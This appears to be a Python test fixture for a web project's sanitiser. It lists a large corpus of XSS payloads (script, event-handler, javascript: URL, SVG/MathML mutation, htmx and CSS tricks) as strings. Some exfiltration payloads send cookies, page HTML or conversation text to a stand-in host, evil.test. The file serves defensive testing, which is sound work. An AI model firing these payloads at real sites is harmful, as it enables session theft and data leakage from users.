"""Hostile model output: XSS and exfiltration payloads, written for this project's pages.

A payload that gets to run calls `pwn(...)` (a canary the browser test defines), `alert(...)`,
or logs "PWNED"; one that exfiltrates asks for a URL on EVIL (another host), or for a path
starting with /pwn on the app's own host. The browser test counts any of these, and any
element of the payloads' own making that survives into the page, as a failure, so a payload
needs no expected output of its own.

Markdown structure matters: the payloads are joined with blank lines, each its own block,
and none opens a fence or an HTML comment it does not close, so that no payload hides the
ones after it inside a code block.
"""

EVIL = "http://evil.test"

SCRIPTS = [
    "<script>pwn('script')</script>",
    f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
    '<script src="/pwn/script.js"></script>',
    "<scr<script>ipt>pwn('split tag')</scr</script>ipt>",
    "<<script>pwn('double open');//<</script>",
    f'<script type="module">import "{EVIL}/module.js"</script>',
    f"<script>fetch('{EVIL}/?c='+document.cookie)</script>",
    f"<script>new Image().src='{EVIL}/img?c='+document.cookie</script>",
    f"<script>navigator.sendBeacon('{EVIL}/beacon', document.body.innerHTML)</script>",
    f"<script>location='{EVIL}/navigate'</script>",
    "<svg><script>pwn('svg script')</script></svg>",
    "<script>alert('alert')</script>",
    "<script>console.log('PWNED console')</script>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=pwn('img onerror')>",
    '<img src="x" onerror="pwn(\'quoted onerror\')"/>',
    "<IMG SRC=/ ONERROR=\"alert('upper case')\">",
    "<img/src/onerror=pwn('slashes')>",
    "<img src=x onerror=&#112;&#119;&#110;('entities')>",
    "<img src=x onerror=eval(atob('cHduKCdiYXNlNjQnKQ=='))>",
    "<img src=x onerror=pwn&#x28;'hex paren'&#x29;>",
    "<img src=x onerror=console.log('PWNED onerror')>",
    f"<img src=x onerror=import('{EVIL}/dynamic.js')>",
    "<body onload=pwn('body onload')>",
    "<body onpageshow=pwn('pageshow')>",
    "<svg onload=pwn('svg onload')>",
    "<svg/onload=pwn('svg slash onload')>",
    "<input autofocus onfocus=pwn('input autofocus')>",
    "<select autofocus onfocus=pwn('select autofocus')></select>",
    "<textarea autofocus onfocus=pwn('textarea autofocus')></textarea>",
    "<a onfocus=pwn('anchor focus') autofocus href=#>focus me</a>",
    "<details open ontoggle=pwn('details toggle')>x</details>",
    "<video><source onerror=\"pwn('video source')\"></video>",
    "<audio src=x onerror=pwn('audio')>",
    "<iframe onload=pwn('iframe onload')></iframe>",
    "<marquee onstart=pwn('marquee')>x</marquee>",
    '<div onmouseover="pwn(\'hover\')" style="position:fixed;inset:0">hover</div>',
    "<style onload=pwn('style onload')></style>",
    f"<link rel=stylesheet href={EVIL}/s.css onload=pwn('link onload')>",
    "<p onanimationstart=pwn('animation') style=\"animation:x 1s\">x</p>",
    '<a href="#" onclick="pwn(\'click\')">click</a>',
    "<img src=x onerror\x0b=pwn('vertical tab')>",
    "<img src=\"x` `<script>pwn('backtick')</script>\"` `>",
    "<form><button formaction=javascript:pwn('formaction')>go</button></form>",
]

URLS = [
    "[click](javascript:pwn('md link'))",
    "[click](JaVaScRiPt:pwn('mixed case'))",
    "[click](javascript&#58;pwn('entity colon'))",
    "[click](<javascript:pwn('angle destination')>)",
    "[click](&#x6A;avascript:pwn('entity j'))",
    "[click](%6Aavascript:pwn('percent j'))",
    "[click](java%0ascript:pwn('percent newline'))",
    "[click](vbscript:pwn('vbscript'))",
    "[click](data:text/html;base64,PHNjcmlwdD5wd24oJ2RhdGEnKTwvc2NyaXB0Pg==)",
    "[click](data:text/html,<script>pwn('data html')</script>)",
    "[ref link][evil]\n\n[evil]: javascript:pwn('reference')",
    "<javascript:pwn('autolink')>",
    "![alt](javascript:pwn('image src'))",
    "<a href=\"javascript:pwn('raw anchor')\">a</a>",
    "<a href=\"data:text/html,<script>pwn('raw data')</script>\">a</a>",
    "<a href=\"&#x01;javascript:pwn('control char')\">a</a>",
    "<iframe src=\"javascript:pwn('iframe js')\"></iframe>",
    "<iframe srcdoc=\"<script>parent.pwn('srcdoc')</script>\"></iframe>",
    "<object data=\"javascript:pwn('object')\"></object>",
    "<embed src=\"javascript:pwn('embed')\">",
    '<meta http-equiv="refresh" content="0;url=javascript:pwn(\'meta refresh\')">',
    "<base href=\"javascript:pwn('base')//\">",
    "[x](https://ok.example/\" onmouseover=\"pwn('attribute break'))",
    "[x](https://ok.example/ \"title\" onmouseover=pwn('title break'))",
]

SVG_MATHML = [
    "<svg><a xlink:href=\"javascript:pwn('svg xlink')\"><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin=pwn('animate') attributeName=x dur=1s></svg>",
    "<svg><set attributeName=onmouseover to=pwn('svg set')></svg>",
    "<svg><foreignObject><img src=x onerror=pwn('foreignObject')></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='pwn(1)'/></svg>#x\"/></svg>",
    f'<svg><style>@import "{EVIL}/svg.css";</style></svg>',
    f'<svg><image href="{EVIL}/svg-image.png"/></svg>',
    "<math href=\"javascript:pwn('math href')\">click</math>",
    "<math><maction actiontype=statusline xlink:href=\"javascript:pwn('maction')\">x</maction>"
    "</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwn('mglyph')></style></mglyph>"
    "</table></mtext></math>",
]

MUTATION = [
    "<noscript><p title=\"</noscript><img src=x onerror=pwn('noscript')>\"></p></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn('form math')>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=pwn('svg p style')>\"></a></style></svg>",
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror='
    "pwn('textarea path') src=1>\"></path></textarea></mtext></svg></mglyph></mi></math>",
    "<listing>&lt;img src=x onerror=pwn('listing')&gt;</listing>",
    "<xmp><img src=x onerror=pwn('xmp')></xmp>",
    "<template><img src=x onerror=pwn('template')></template>",
    "<table><td><a id=pwn-table><img src=x onerror=pwn('table')></a></td></table>",
    "<style><style/><img src=x onerror=pwn('nested style')></style>",
    "<!--<img src=\"--><img src=x onerror=pwn('comment break')//\">",
    '<a href="https://ok.example" title="&quot; onmouseover=&quot;pwn(\'quote entity\')">x</a>',
    "<title><img src=x onerror=pwn('title')></title>",
]

HTMX = [
    '<div id="pwn-hx-get" hx-get="/pwn/hx-get" hx-trigger="load">x</div>',
    '<div id="pwn-hx-on" hx-on:htmx:load="pwn(\'hx-on\')">x</div>',
    "<div hx-on::load=\"pwn('hx-on short')\">x</div>",
    '<button hx-post="/pwn/hx-post" hx-trigger="load">x</button>',
    '<div data-hx-get="/pwn/data-hx-get" data-hx-trigger="load">x</div>',
    f'<div hx-get="{EVIL}/hx-get" hx-trigger="load"></div>',
    '<div hx-trigger="every 1s" hx-get="/pwn/every"></div>',
    '<a hx-vals=\'js:{a: pwn("hx-vals")}\' hx-get="/pwn/hx-vals" hx-trigger="load">x</a>',
    '<div hx-headers=\'js:{"X": pwn("hx-headers")}\' hx-get=/pwn/h hx-trigger=load></div>',
    f'<div hx-include="#id_model" hx-post="{EVIL}/hx-include" hx-trigger="load"></div>',
    '<div id="pwn-oob-status" hx-swap-oob="innerHTML:#run-status">pwned</div>',
    "<div hx-swap-oob=\"beforeend:#c0-text\"><img src=x onerror=pwn('oob beforeend')></div>",
    '<form id="pwn-ws-send" ws-send><input name="action" value="stop"></form>',
    '<div hx-ext="ws" ws-connect="ws://evil.test/pwn-ws">x</div>',
    '<div hx-ext="sse" sse-connect="/pwn/sse">x</div>',
    '<div hx-boost="true"><a href="/pwn/boost" id="pwn-boost">x</a></div>',
]

CLOSING_TAGS = [
    '</div><div id="pwn-oob-true" hx-swap-oob="true">replaced</div>',
    '</div></div><div id="run-status" hx-swap-oob="true">pwned-status</div>',
    "</pre></div><img src=x onerror=pwn('close pre')>",
    "</textarea><script>pwn('close textarea')</script>",
    "</code></pre><svg onload=pwn('close code')>",
    '"></div><div id="pwn-afterbegin" hx-swap-oob="afterbegin:body">x</div>',
    "</title></style></script><img src=x onerror=pwn('close all')>",
    "]]><img src=x onerror=pwn('close cdata')>",
    "--><img src=x onerror=pwn('close comment')>",
    '</details></article><div id="c0-footer" hx-swap-oob="true"><img src=x '
    "onerror=pwn('footer')></div>",
    "</summary><script>pwn('close summary')</script>",
    "'\"><img src=x onerror=pwn('quote break')>",
]

EXFILTRATION = [
    f"![]({EVIL}/leak.png?q=the+conversation)",
    f"![logo]({EVIL.replace('http', 'https')}/track.gif)",
    f"![x][img]\n\n[img]: {EVIL}/reference.png",
    "![x](//evil.test/protocol-relative.png)",
    f"[![x]({EVIL}/nested.png)]({EVIL}/)",
    "![x](http://127.0.0.2:9/pwn/other-loopback.png)",
    "![x](/pwn/same-host.png)",
    f'<img src="{EVIL}/raw.png">',
    f'<img srcset="{EVIL}/srcset.png 1x">',
    f'<picture><source srcset="{EVIL}/picture.png"><img></picture>',
    f'<video poster="{EVIL}/poster.png"></video>',
    f'<link rel=prefetch href="{EVIL}/prefetch">',
    f'<link rel=preload as=image href="{EVIL}/preload.png">',
    f'<iframe src="{EVIL}/frame"></iframe>',
    f'<object data="{EVIL}/object"></object>',
    f'<embed src="{EVIL}/embed">',
    f'<form action="{EVIL}/form"><input type=submit autofocus></form>',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">',
    f'<a href="{EVIL}/ping" ping="{EVIL}/pinged">x</a>',
    f'<portal src="{EVIL}/portal"></portal>',
    f'<?xml-stylesheet href="{EVIL}/pi.xsl"?>',
    f"[leak]({EVIL}/?q=the+conversation)",
    f"<{EVIL}/autolink>",
]

CSS = [
    f"<style>@import url({EVIL}/import.css);</style>",
    f'<style>body{{background:url("{EVIL}/background.png")}}</style>',
    f'<div style="background-image:url({EVIL}/inline.png)">x</div>',
    f'<style>input[value^="a"]{{background:url({EVIL}/a)}}</style>',
    f"<style>@font-face{{font-family:x;src:url({EVIL}/f.woff)}}body{{font-family:x}}</style>",
    f'<style>*{{list-style:url("{EVIL}/list.png")}}</style>',
    "<div style=\"width:expression(pwn('expression'))\">x</div>",
    f'<span style="behavior:url({EVIL}/x.htc)">x</span>',
]

MARKDOWN = [
    "| a | b |\n|---|---|\n| <img src=x onerror=pwn('table cell')> |"
    " [c](javascript:pwn('table link')) |",
    "# <script>pwn('heading')</script>",
    "> <svg onload=pwn('blockquote')>",
    f"- [x](javascript:pwn('list link'))\n- ![y]({EVIL}/list-image.png)",
    "*<img src=x onerror=pwn('emphasis')>*",
    "```html\n<script>pwn('fenced')</script>\n```",
    "    <script>pwn('indented code')</script>",
    "`<img src=x onerror=pwn('inline code')>`",
    "<!-- <script>pwn('comment')</script> -->",
    "<![CDATA[<script>pwn('cdata')</script>]]>",
    "{{constructor.constructor('pwn(1)')()}}",
    "${pwn('template literal')}",
]

ODD_TEXT = [
    "before \ud800 after <img src=x onerror=pwn('lone surrogate')>",
    "\udfff\ud800 a reversed pair",
    "nul\x00<script>pwn('nul')</script>",
    "\x00\x00\x00",
    "<scr\x00ipt>pwn('nul in tag')</scr\x00ipt>",
    "\u202e<img src=x onerror=pwn('rtl override')>",
    "<img src=x onerror=\"pwn('line separator')\"\u2028>",
    "[zero width](java\u200bscript:pwn('zero width'))",
    "&lt;img src=x onerror=pwn('escaped text')&gt;",
    "%3Cscript%3Epwn('percent encoded')%3C/script%3E",
    "\\u003cscript\\u003epwn('json escapes')\\u003c/script\\u003e",
    "\ufeff<script>pwn('bom')</script>",
]

CORPUS = [
    *SCRIPTS,
    *EVENT_HANDLERS,
    *URLS,
    *SVG_MATHML,
    *MUTATION,
    *HTMX,
    *CLOSING_TAGS,
    *EXFILTRATION,
    *CSS,
    *MARKDOWN,
    *ODD_TEXT,
]

# One token far longer than any a model sends, with markup in it: escaped, it grows fourfold.
HUGE_TOKEN = "A" * 60_000 + "<img src=x onerror=pwn('huge')>" + "<" * 20_000
